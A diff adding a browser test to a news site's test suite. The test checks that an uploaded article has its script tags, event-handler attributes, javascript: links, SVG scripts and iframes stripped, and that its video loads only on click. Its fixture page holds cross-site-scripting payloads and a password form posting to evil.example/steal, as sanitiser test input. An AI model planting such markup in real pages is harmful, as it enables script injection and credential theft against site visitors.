@@ -43,3 +43,59 @@ def test_a_video_loads_its_privacy_enhanced_player_only_on_click(
         "https://www.youtube.com/watch?v=dQw4w9WgXcQ"
     )
     assert errors == []
+
+
+HOSTILE_PAGE = """<!DOCTYPE html>
+<html><head><title>Hội thảo an toàn thông tin</title>
+<meta name="author" content="Phòng Thông tin">
+<meta name="date" content="2024-04-20T08:00:00+07:00">
+<script>window.__pwned = "head";</script>
+<style>body { display: none }</style>
+</head><body onload="window.__pwned = 'onload'">
+<h1>Hội thảo an toàn thông tin</h1>
+<p>Chuyên gia cảnh báo <a href="javascript:window.__pwned='link'">mã độc</a> và
+<img src="x" onerror="window.__pwned = 'onerror'" alt="ảnh lỗi"> lừa đảo trực tuyến.</p>
+<script>window.__pwned = "body"; alert(1)</script>
+<iframe src="https://evil.example/frame"></iframe>
+<svg><script>window.__pwned = "svg"</script><circle onload="window.__pwned = 'svg-onload'"/></svg>
+<form action="https://evil.example/steal"><input name="password"></form>
+<p><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">Toàn văn hội thảo</a></p>
+<table><tr><th>Nội dung</th><td onmouseover="window.__pwned='td'">Phòng chống lừa đảo</td></tr></table>
+</body></html>
+"""
+
+
+def test_a_hostile_html_article_runs_nothing_and_its_video_waits_for_a_click(
+    site: LocalStack, page: Page, errors: list[str]
+) -> None:
+    site.upload("articles/tin-tuc/hoi-thao-an-toan.html", HOSTILE_PAGE)
+    site.process_queue()
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    outside: list[str] = []
+
+    def player(route: Route) -> None:  # no network here: the player answers locally
+        outside.append(route.request.url)
+        route.fulfill(content_type="text/html", body="<!DOCTYPE html><title>player</title>")
+
+    page.route("https://**/**", lambda route: (outside.append(route.request.url), route.abort()))
+    page.route("https://www.youtube-nocookie.com/**", player)
+    page.goto(site.site_url + "/tin-tuc/hoi-thao-an-toan.html")
+    page.wait_for_load_state("networkidle")
+    expect(page.locator("h1")).to_have_text("Hội thảo an toàn thông tin")
+    expect(page.locator(".article-body table td")).to_have_text("Phòng chống lừa đảo")
+    page.locator(".article-body td").hover()
+    page.locator(".article-body a", has_text="mã độc").click()  # its javascript: href is gone
+    assert page.evaluate("window.__pwned") is None and dialogs == []
+    body = page.locator(".article-body").inner_html()
+    assert "<script" not in body and "<iframe" not in body and "<form" not in body and "<svg" not in body
+    assert outside == [], "nothing may be fetched from another site before a click"
+    page.get_by_role("button", name="Toàn văn hội thảo").click()
+    expect(page.locator("figure.video iframe")).to_have_attribute(
+        "src", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?autoplay=1"
+    )
+    page.wait_for_load_state("networkidle")
+    assert outside == ["https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?autoplay=1"]
+    # The only console error: the broken picture's own 404 (its onerror handler was stripped).
+    assert errors == ["Failed to load resource: the server responded with a status of 404 (Not Found)"]
+    errors.clear()
